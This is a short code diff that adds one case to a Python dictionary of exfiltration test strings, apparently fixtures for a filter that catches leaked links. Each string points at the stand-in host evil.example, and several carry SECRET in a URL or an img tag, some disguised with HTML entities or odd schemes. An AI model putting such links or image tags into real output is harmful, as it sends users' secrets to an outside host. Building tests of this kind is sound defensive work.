@@ -163,6 +163,7 @@ LEAKS: Final[dict[str, str]] = {
     "bare behind an allowed path": "see good.example/https://evil.example/x",
     "bare, www with an entity": "see www&#46;evil.example",
     "bare with entities": "see https:&#47;&#47;evil.example",
+    "bare, scheme of one letter": "see x://evil.example/SECRET",
     "bare, other scheme": "see ftp://evil.example/SECRET",
     "img": "<img src='https://evil.example/?q=SECRET'>",
     "img without quotes": "<img src=//evil.example/?q=SECRET>",
